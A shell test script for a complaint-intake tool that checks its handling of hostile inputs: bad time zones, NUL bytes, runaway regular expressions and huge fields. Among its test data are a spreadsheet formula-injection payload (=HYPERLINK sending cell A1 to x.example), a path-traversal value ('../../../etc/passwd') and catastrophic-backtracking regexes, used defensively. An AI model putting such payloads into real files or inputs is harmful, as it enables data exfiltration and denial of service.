#!/bin/sh
# Inputs crafted to hurt: time zones that libc would silently take as
# UTC, NUL bytes where a record ends without a newline, group names that
# a spreadsheet runs, regular expressions that never finish, and fields
# of 10 MB.  Each gets a clear answer and the documented exit status.
. "${0%/*}/lib.sh"
preset

# --- time zones: --tz ZONE | exit | message or received_at of 28/11/24 14.05 ------------
printf '28/11/24 14.05 - Warga Guntung: lapor jalan rusak\n' >chat.txt
while IFS='|' read -r zone want_rc want; do
	run aduan-add --from whatsapp --group G --dry-run --format jsonl --tz "$zone" chat.txt
	is "$rc" "$want_rc" "--tz $zone: exit $want_rc"
	if [ "$want_rc" = 0 ]; then
		like out "\"received_at\":\"$want\"" "--tz $zone: 14.05 there is $want"
	else
		like err "$want" "--tz $zone: saying why"
	fi
done <<'ROWS'
WITA|0|2024-11-28T06:05:00Z
wib|0|2024-11-28T07:05:00Z
WIT|0|2024-11-28T05:05:00Z
Makassar|0|2024-11-28T06:05:00Z
Asia/Jakarta|0|2024-11-28T07:05:00Z
:Asia/Jayapura|0|2024-11-28T05:05:00Z
UTC|0|2024-11-28T14:05:00Z
<+08>-8|0|2024-11-28T06:05:00Z
WITA-8|0|2024-11-28T06:05:00Z
UTC+8|2|"UTC\+8" is POSIX notation, which counts hours west of Greenwich: it means UTC-8; for UTC\+8 write WITA \(Asia/Makassar\) or <\+08>-8
GMT-7|2|it means UTC\+7; for UTC-7 write <-07>\+7
Mars/Olympus|2|--tz: unknown time zone "Mars/Olympus" \(try Asia/Makassar, WITA, WIB or WIT\)
XYZ|2|--tz: unknown time zone "XYZ"
../../../etc/passwd|2|--tz: unknown time zone
ROWS

# --- NUL bytes: every format, also in a last record without a line end ----------------
while IFS='|' read -r fmt data where; do
	printf "$data" >nul.$fmt
	run aduan-add --from "$fmt" --group G nul.$fmt
	is "$rc" 65 "NUL in $fmt ($where): rejected (65)"
	like err "nul\\.$fmt:[0-9]+: NUL byte in" "NUL in $fmt ($where): named with its line"
	is "$(aduan-list -q --search dua 2>/dev/null)" "" "NUL in $fmt ($where): nothing cut short was stored"
done <<'ROWS'
csv|body,kelurahan\nbaik satu,Guntung\nsatu\000dua,Guntung|last record, no newline
csv|body,kelurahan\nsatu\000dua,Guntung\nbaik satu,Guntung|first record
tsv|body\tkelurahan\nbaik satu\tGuntung\nsatu\000dua\tGuntung|last record, no newline
whatsapp|28/11/24 14.05 - Warga: lapor jalan rusak satu\000dua|last message, no newline
whatsapp|28/11/24 14.05 - Warga: lapor jalan rusak satu\000dua\n28/11/24 14.09 - Lain: lapor jalan rusak baik satu\n|a message in the middle
ROWS

# A WhatsApp message with a NUL byte is rejected whatever the words before
# it say, and nothing of it is lost: --messages and the rejects file keep
# it whole.  Line 1 starts as chatter ("ok"); lines 3-4 are one complaint
# whose second message holds the byte.
printf '28/11/24 14.05 - Warga: ok\000 lampu jalan mati di RT 5 mohon diperbaiki\n28/11/24 14.09 - Lain: lapor jalan rusak di Guntung\n28/11/24 14.10 - Ani: lapor got mampet\n28/11/24 14.11 - Ani: di Guntung\000 RT 3\n' >nul2.txt
run aduan-add --dry-run --messages --from whatsapp --group G nul2.txt
is "$rc" 65 "NUL after chatter words: the dry run exits 65"
like err '^aduan-add: nul2\.txt:1: NUL byte in message$' "NUL after chatter words: rejected at its line, not filtered"
like err '^aduan-add: nul2\.txt:3: NUL byte in the message of line 4$' \
	"NUL in the second message of a complaint: its first line and the NUL's named"
like err '4 messages read, 1 complaints to add, 0 already present, 2 rejected; skipped: 0 system, 0 staff, 0 not matching' \
	"the summary counts two rejected, none filtered"
like out '^\{"at":"2024-11-28T14:05","author":"Warga","body":"ok\\u0000 lampu jalan mati di RT 5 mohon diperbaiki",.*"why":"a NUL byte in it"' \
	"--messages: the whole text, the byte as \\u0000, and why"
like out '"body":"di Guntung\\u0000 RT 3","kind":"text",.*"decision":"joined"' "--messages: the later message whole too"
run aduan-add --dry-run --from whatsapp --group G --match banjir nul2.txt
like err '2 rejected; skipped: 0 system, 0 staff, 1 not matching' "--match does not hide a message with a NUL byte"
run aduan-add --all --dry-run --from whatsapp --group G nul2.txt
like err '2 rejected' "nor does --all take it cut short"
n0=$(count)
run aduan-add --from whatsapp --group G --rejects nul2.rej nul2.txt
is "$rc" 65 "NUL: the import exits 65"
printf '[28/11/2024 14.05] Warga: ok\000 lampu jalan mati di RT 5 mohon diperbaiki\n[28/11/2024 14.10] Ani: lapor got mampet\n[28/11/2024 14.11] Ani: di Guntung\000 RT 3\n' >nul2.want
cmp -s nul2.rej nul2.want
ok $? "the rejects file holds both rejected complaints whole, NUL bytes and all"
is "$(count --search diperbaiki) $(count --search mampet) $(count)" "0 0 $((n0 + 1))" "nothing of them was stored"
is "$(count --search 'jalan rusak di Guntung')" 1 "the message without a NUL byte was added"
tr -d '\000' <nul2.rej >nul2.fixed
run aduan-add -q --from whatsapp --group G nul2.fixed
is "$rc" 0 "the rejects file with its NUL bytes taken out imports"
is "$(count --search mampet)" 1 "and the complaint is whole"

# --- summary group names are never formulas, --excel or not ------------------------------
aduan-add -k Guntung --category '=HYPERLINK("http://x.example/?"&A1,"klik")' "x" >/dev/null 2>&1
aduan-add -k Guntung --category '@SUM(1+1)' "y" >/dev/null 2>&1
aduan-add -k Guntung --category '-2+3' "z" >/dev/null 2>&1
aduan-export --summary --since today --until today --by category >sum.csv 2>/dev/null
like sum.csv ",\"'=HYPERLINK\\(\"\"http" "=HYPERLINK(...) as a group name gets an apostrophe (quoted)"
like sum.csv ",\"'@SUM\\(1\\+1\\)\"," "so does @SUM(...)"
like sum.csv ",\"'-2\\+3\"," "and -2+3"
unlike sum.csv ',[=+@]' "no cell of the summary starts with a formula character"
like sum.csv "@SUM\\(1\\+1\\)\",1,0,0,1,0," "the counts stay plain numbers"

# --- regular expressions: bounded, whatever the pattern ---------------------------------
{ printf '28/11/24 14.05 - Warga: jalan rusak, lapor '; head -c 30000 /dev/zero | tr '\0' a; echo; } >long.txt
while IFS='	' read -r re want_rc want; do
	run timeout 120 aduan-add --from whatsapp --group G --dry-run --match "$re" long.txt
	is "$rc" "$want_rc" "--match '$re' on a 30 KB message: exit $want_rc"
	like err "$want" "--match '$re': $want"
done <<'ROWS'
^(a|a)*\1\1b	2	back-references such as \\1 are not supported
(a)\2	2	back-references such as \\2 are not supported
a{30000}	2	repetition counts above 1000, alone or multiplied, are not supported
(a{100}){100}	2	repetition counts above 1000
(a|aa)*c	0	1 not matching the intake filter
(a*)*b	0	1 not matching the intake filter
^(a+)+$	0	1 not matching the intake filter
(a|aa)+$	0	0 not matching the intake filter
lapor a{30}	0	1 complaints to add
[\1]x	0	1 not matching the intake filter
ROWS

# --- a 10 MB CSV field: read in one pass (rejected as too long, the rest kept) ----------
head -c 10485760 /dev/zero | tr '\0' a >big.txt
{ printf 'source_key,body,kelurahan\nk1,'; cat big.txt; printf ',Guntung\nk2,kecil,Guntung'; } >big.csv
run timeout 120 aduan-add --from csv big.csv
is "$rc" 65 "a 10 MB unquoted field: rejected (65), not timed out"
like err 'big.csv:2: body is too long \(10485760 bytes\)' "saying how long"
is "$(aduan-list -f body --format tsv "$(cat out)" 2>/dev/null)" "kecil" "the record after it arrives"

# --- usage errors free what they took (the sanitizer and valgrind runs check) -----------
while IFS='|' read -r args; do
	run $args
	is "$rc" 2 "usage error: $args"
done <<'ROWS'
aduan-add --nonsense x
aduan-add --tz Mars/Olympus --from whatsapp x
aduan-add -n Nama --help-me
aduan-list --format nonsense
aduan-export --format nonsense
aduan-route --nonsense
aduan-close --nonsense
aduan config --nonsense
ROWS
done_testing
